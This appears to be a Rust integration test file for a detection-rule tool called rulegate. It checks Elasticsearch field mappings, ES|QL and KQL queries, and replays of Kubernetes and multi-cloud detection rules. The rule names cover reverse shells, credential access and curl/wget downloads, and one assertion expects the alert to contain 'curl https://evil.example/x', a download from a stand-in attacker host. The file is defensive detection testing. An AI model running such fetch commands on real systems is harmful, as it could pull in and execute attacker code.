//! Integration mappings: the shipped `mappings/*.tsv` load (every `ecs` reference resolved), `FROM`
//! knows declared fields no document has, an index pattern that matches nothing is `Unknown index`,
//! the four pod-exec rules and the multi-cloud secrets rule evaluate, user mapping files come from
//! `rulegate.toml` (`mappings`) and `--mapping` on every evaluating command, and KQL takes its
//! field types from the same mappings.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::support::{self, repo_path, shared_path};
use rulegate::document::{catalog, Catalog, Documents, FieldSelection, LoadOptions, Mapping, Type};

fn run(command: &mut Command) -> (i32, String, String) {
    let output = command.output().expect("the binary runs");
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

fn query(esql: &str, input: &str, extra: &[&str]) -> (i32, String, String) {
    let mut command = support::rulegate();
    command.args(["query", "--esql", esql, "--format", "csv", "--input", input]);
    command.args(extra);
    run(&mut command)
}

fn k8s_rule(name: &str) -> PathBuf {
    shared_path(&format!(
        "reference/detection-rules-k8s/rules/integrations/kubernetes/{name}.toml"
    ))
}

const POD_EXEC_RULES: [&str; 4] = [
    "credential_access_kubernetes_pod_exec_cloud_instance_metadata",
    "credential_access_kubernetes_pod_exec_sensitive_file_access",
    "execution_kubernetes_pod_exec_curl_wget_https",
    "execution_kubernetes_pod_exec_potential_reverse_shell",
];

const MULTI_CLOUD: &str =
    "reference/detection-rules-k8s/rules/cross-platform/credential_access_multi_could_secrets_via_api.toml";

fn replay(rule: &Path, input: &str, extra: &[&str]) -> (i32, String, String) {
    let mut command = support::rulegate();
    command.arg("replay").arg(rule).args(["--input", input]);
    command.args(extra);
    run(&mut command)
}

fn alert_count(json: &str) -> usize {
    let value: serde_json::Value = serde_json::from_str(json).expect("replay prints JSON");
    value["alerts"].as_array().expect("an alert list").len()
}

#[test]
fn shipped_tables_load_with_every_ecs_reference_resolved() {
    let catalog = Catalog::shipped().unwrap_or_else(|e| panic!("{e:?}"));
    let datasets: Vec<&str> = catalog.streams.iter().map(|s| s.dataset.as_str()).collect();
    assert_eq!(
        datasets,
        [
            "aws.cloudtrail",
            "aws_bedrock.invocation",
            "azure.signinlogs",
            "cloud_defend.file",
            "cloud_defend.process",
            "endpoint.events.network",
            "endpoint.events.process",
            "gcp.audit",
            "kubernetes.audit_logs",
            "okta.system",
            "system.security",
            "windows.forwarded",
            "windows.powershell_operational",
            "windows.sysmon_operational"
        ]
    );
    // Every declared type is an Elasticsearch field type (the JSON mapping reader refuses others).
    for stream in &catalog.streams {
        for (field, ty) in &stream.declared {
            assert_ne!(ty, "ecs", "{}: {field} left unresolved", stream.dataset);
            let json = format!(r#"{{"properties":{{"f":{{"type":"{ty}"}}}}}}"#);
            assert!(
                Mapping::from_json(&json).is_ok(),
                "{}: {field}: `{ty}` is not an Elasticsearch type",
                stream.dataset
            );
        }
    }
    let by = |d: &str| catalog.streams.iter().find(|s| s.dataset == d).unwrap();
    let k8s = by("kubernetes.audit_logs").mapping();
    assert_eq!(k8s.get("cloud.account.id"), Some(Type::Keyword));
    assert_eq!(
        k8s.get("kubernetes.audit.objectRef.subresource"),
        Some(Type::Keyword)
    );
    assert_eq!(
        k8s.get("source.ip"),
        Some(Type::Ip),
        "external: ecs → ECS's ip"
    );
    assert_eq!(
        k8s.get("message"),
        Some(Type::Text),
        "match_only_text reads as text"
    );
    let gcp = by("gcp.audit").mapping();
    assert_eq!(
        gcp.get("gcp.audit.request_metadata.caller_ip"),
        Some(Type::Ip)
    );
    assert_eq!(
        gcp.get("gcp.audit.request"),
        Some(Type::Flattened),
        "a flattened field is one column of type flattened"
    );
    assert_eq!(by("okta.system").declared["url.original"], "wildcard");
}

#[test]
fn every_table_line_is_a_field_and_a_type_and_names_are_unique() {
    for entry in std::fs::read_dir(repo_path("mappings")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "tsv") {
            continue;
        }
        let text = std::fs::read_to_string(&path).unwrap();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let rows = catalog::parse_table(&name, &text).unwrap_or_else(|e| panic!("{e:?}"));
        let mut seen = BTreeSet::new();
        for (field, _) in &rows {
            assert!(seen.insert(field.clone()), "{name}: {field} twice");
        }
        assert!(rows.len() > 10, "{name}: {} rows", rows.len());
        assert!(
            text.starts_with("# "),
            "{name}: opens with its source and licence"
        );
    }
}

#[test]
fn from_knows_declared_fields_no_document_has() {
    let input = repo_path("tests/data/mappings/k8s_no_exec.ndjson");
    let input = input.to_str().unwrap();
    // Loaded path (the output is every field) and streamed path (KEEP) alike.
    let (code, out, err) = query(
        "FROM logs-kubernetes.audit_logs-* | WHERE kubernetes.audit.objectRef.subresource IS NULL",
        input,
        &[],
    );
    assert_eq!(code, 0, "{err}");
    let header = out.lines().next().unwrap();
    assert!(
        header.split(',').any(|c| c == "cloud.account.id"),
        "{header}"
    );
    assert_eq!(out.lines().count(), 2, "one row: {out}");
    let (code, out, err) = query(
        "FROM logs-kubernetes.audit_logs-* | WHERE kubernetes.audit.objectRef.subresource IS NULL | KEEP user.name, cloud.account.id",
        input,
        &[],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "user.name,cloud.account.id\nmallory,\n");
}

#[test]
fn a_pattern_that_matches_no_index_is_unknown_index() {
    let input = repo_path("tests/data/mappings/k8s_no_exec.ndjson");
    let input = input.to_str().unwrap();
    for esql in [
        "FROM logs-gcp.audit-* | KEEP gcp.audit.method_name",
        "FROM logs-gcp.audit-* | WHERE gcp.audit.method_name IS NULL",
    ] {
        let (code, out, err) = query(esql, input, &[]);
        assert_eq!(code, 2, "{esql}: {out}");
        assert!(
            err.contains("error[E315]: Unknown index [logs-gcp.audit-*]"),
            "{esql}: {err}"
        );
        assert!(
            err.contains("<query>:1:6"),
            "labelled at the pattern: {err}"
        );
    }
    // One pattern of several that matches is enough, as in Elasticsearch.
    let (code, out, err) = query(
        "FROM logs-gcp.audit-*, logs-kubernetes.audit_logs-* | STATS c = COUNT(*)",
        input,
        &[],
    );
    assert_eq!((code, out.as_str()), (0, "c\n1\n"), "{err}");
}

#[test]
fn declared_fields_follow_the_matching_data_streams() {
    let values: Vec<serde_json::Value> = vec![serde_json::json!({
        "data_stream": {"type": "logs", "dataset": "kubernetes.audit_logs", "namespace": "default"},
        "user": {"name": "a"}
    })];
    let selection = FieldSelection::names(["user.name"]);
    let docs = Documents::from_values(&values, &selection, LoadOptions::default()).unwrap();
    let catalog = Catalog::shipped().unwrap();
    let names = |patterns: &[&str]| -> BTreeSet<String> {
        let patterns: Vec<String> = patterns.iter().map(|p| p.to_string()).collect();
        catalog::from_columns(&patterns, &docs, &catalog)
            .unwrap()
            .into_iter()
            .map(|c| c.name)
            .collect()
    };
    let k8s = names(&["logs-kubernetes.audit_logs-*"]);
    assert!(k8s.contains("kubernetes.audit.objectRef.subresource"));
    assert!(
        !k8s.contains("gcp.audit.method_name"),
        "gcp has no index here"
    );
    let wide = names(&["logs-*"]);
    assert!(!wide.contains("aws.cloudtrail.event_type"), "no aws index");
    // A user mapping is declared for every index.
    let mut with_user = catalog.clone();
    with_user.user =
        Mapping::from_json(r#"{"properties":{"site.tier":{"type":"keyword"}}}"#).unwrap();
    let patterns = vec!["logs-kubernetes.audit_logs-*".to_string()];
    let columns = catalog::from_columns(&patterns, &docs, &with_user).unwrap();
    assert!(columns
        .iter()
        .any(|c| c.name == "site.tier" && c.ty == Type::Keyword));
}

#[test]
fn the_pod_exec_rules_evaluate_on_a_log_without_exec_events() {
    let quiet = repo_path("tests/data/mappings/k8s_no_exec.ndjson");
    for name in POD_EXEC_RULES {
        let (code, out, err) = replay(&k8s_rule(name), quiet.to_str().unwrap(), &[]);
        assert_eq!(code, 0, "{name}: {err}");
        assert_eq!(alert_count(&out), 0, "{name}");
    }
    let exec = repo_path("tests/data/mappings/k8s_exec_curl.ndjson");
    let rule = k8s_rule("execution_kubernetes_pod_exec_curl_wget_https");
    let (code, out, err) = replay(&rule, exec.to_str().unwrap(), &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(alert_count(&out), 1, "{out}");
    assert!(out.contains("curl https://evil.example/x"), "{out}");
}

#[test]
fn the_multi_cloud_secrets_rule_reads_cloud_account_id() {
    let rule = shared_path(MULTI_CLOUD);
    // Kubernetes alone: `cloud.account.id` is declared by the Kubernetes data stream.
    let quiet = repo_path("tests/data/mappings/k8s_no_exec.ndjson");
    let (code, out, err) = replay(&rule, quiet.to_str().unwrap(), &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(alert_count(&out), 0);
    // Kubernetes and AWS from one address: two vendors, one alert.
    let both = repo_path("tests/data/mappings/multi_cloud_secrets.ndjson");
    let (code, out, err) = replay(&rule, both.to_str().unwrap(), &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(alert_count(&out), 1, "{out}");
    assert!(out.contains("aws:111122223333"), "{out}");
}

fn temp_dir(name: &str) -> crate::support::Scratch {
    crate::support::scratch(&format!("mappings-{name}"))
}

const SITE_MAPPING: &str = r#"{"mappings":{"properties":{"site":{"properties":{"tier":{"type":"keyword"},"addr":{"type":"ip"}}}}}}"#;

#[test]
fn user_mappings_come_from_the_config_and_from_mapping_flags() {
    let dir = temp_dir("config");
    std::fs::write(dir.join("site.json"), SITE_MAPPING).unwrap();
    std::fs::write(dir.join("rulegate.toml"), "mappings = [\"site.json\"]\n").unwrap();
    let input = repo_path("tests/data/mappings/k8s_no_exec.ndjson");
    let input = input.to_str().unwrap();
    let esql = "FROM logs-* | KEEP user.name, site.tier";
    let in_dir = |args: &[&str]| {
        let mut command = support::rulegate();
        command.current_dir(&dir).args(args);
        run(&mut command)
    };
    let (code, out, err) = in_dir(&["query", "--esql", esql, "--format", "csv", "--input", input]);
    assert_eq!(
        (code, out.as_str()),
        (0, "user.name,site.tier\nmallory,\n"),
        "{err}"
    );
    let (code, out, _) = in_dir(&["config"]);
    assert_eq!(code, 0);
    let row = out.lines().find(|l| l.starts_with("mappings")).unwrap();
    assert!(
        row.contains("site.json") && row.contains("rulegate.toml:1"),
        "{row}"
    );
    // Without the config, the field is unknown; `--mapping` declares it again.
    let (code, _, err) = query(esql, input, &[]);
    assert_eq!(code, 2);
    assert!(err.contains("Unknown column [site.tier]"), "{err}");
    let site = dir.join("site.json");
    let (code, out, err) = query(esql, input, &["--mapping", site.to_str().unwrap()]);
    assert_eq!(
        (code, out.as_str()),
        (0, "user.name,site.tier\nmallory,\n"),
        "{err}"
    );
    // A mapping file that does not exist is named (exit 2).
    let (code, _, err) = query(esql, input, &["--mapping", "no/such.json"]);
    assert_eq!(code, 2);
    assert!(
        err.contains("E402") && err.contains("no/such.json"),
        "{err}"
    );
}

#[test]
fn replay_takes_mapping_and_the_mapping_types_documents() {
    // `site.addr` typed `ip` by the user's mapping: a document value that is no IP is refused, as
    // Elasticsearch refuses to index it.
    let dir = temp_dir("replay");
    std::fs::write(dir.join("site.json"), SITE_MAPPING).unwrap();
    let doc = dir.join("docs.ndjson");
    std::fs::write(
        &doc,
        "{\"@timestamp\":\"2026-05-01T10:00:10Z\",\"site\":{\"addr\":\"not-an-ip\"}}\n",
    )
    .unwrap();
    let rule = k8s_rule(POD_EXEC_RULES[0]);
    let (code, _, err) = replay(&rule, doc.to_str().unwrap(), &[]);
    assert_eq!(code, 0, "unmapped, the value is a keyword: {err}");
    let site = dir.join("site.json");
    let (code, _, err) = replay(
        &rule,
        doc.to_str().unwrap(),
        &["--mapping", site.to_str().unwrap()],
    );
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("site.addr"), "{err}");
}

#[test]
fn kql_takes_field_types_from_the_mapping() {
    use rulegate::kql::eval::{Compiled, Schema};
    let values = vec![serde_json::json!({"note": "Disk Full on node-3"})];
    let load = |mapping: Mapping| {
        let options = LoadOptions {
            mapping,
            ..LoadOptions::default()
        };
        Documents::from_values(&values, &FieldSelection::names(["note"]), options).unwrap()
    };
    let matches = |docs: &Documents, kql: &str| {
        let tree = rulegate::kql::parse(kql).unwrap();
        let schema = Schema {
            columns: &docs.columns,
            now: 0,
        };
        let compiled = Compiled::compile(&tree, &schema).unwrap();
        compiled.matches(docs.row(0))
    };
    // Unmapped: a string is a keyword (exact value).
    let dynamic = load(LoadOptions::default().mapping);
    assert!(!matches(&dynamic, "note:disk"));
    assert!(matches(&dynamic, "note:\"Disk Full on node-3\""));
    // Mapped `text`: analysed tokens.
    let text = load(Mapping::from_json(r#"{"properties":{"note":{"type":"text"}}}"#).unwrap());
    assert!(matches(&text, "note:disk"));
    assert!(matches(&text, "note:\"full on\""));
}

#[test]
fn endpoint_windows_and_azure_streams_declare_their_fields() {
    let catalog = Catalog::shipped().unwrap();
    let by = |d: &str| {
        let stream = catalog.streams.iter().find(|s| s.dataset == d).unwrap();
        (stream.pattern(), stream.mapping())
    };
    let (pattern, process) = by("endpoint.events.process");
    assert_eq!(pattern, "logs-endpoint.events.process-*");
    assert_eq!(process.get("process.pid"), Some(Type::Long));
    assert_eq!(
        process.get("process.command_line"),
        Some(Type::Keyword),
        "wildcard"
    );
    assert_eq!(
        process.get("process.command_line.caseless"),
        Some(Type::Keyword)
    );
    assert_eq!(
        process.get("process.Ext.token.elevation"),
        Some(Type::Boolean)
    );
    // `process.Ext.code_signature` is `nested`: ES|QL reads none of its sub-fields.
    assert_eq!(process.get("process.Ext.code_signature.trusted"), None);
    assert_eq!(
        process.get("process.code_signature.trusted"),
        Some(Type::Boolean)
    );
    let (_, sysmon) = by("windows.sysmon_operational");
    assert_eq!(
        sysmon.get("winlog.event_data.TargetImage"),
        Some(Type::Keyword)
    );
    assert_eq!(sysmon.get("dll.name"), None, "aliases are not modelled");
    let (_, security) = by("system.security");
    assert_eq!(
        security.get("process.executable.caseless"),
        Some(Type::Keyword)
    );
    assert_eq!(
        security.get("source.port"),
        Some(Type::Long),
        "external: ecs"
    );
    let (_, signin) = by("azure.signinlogs");
    assert_eq!(
        signin.get("azure.signinlogs.properties.status.error_code"),
        Some(Type::Long)
    );
    let (_, bedrock) = by("aws_bedrock.invocation");
    assert_eq!(
        bedrock.get("gen_ai.request.max_tokens"),
        Some(Type::Integer),
        "ecs.yml comes before fields.yml: ECS's integer"
    );
}
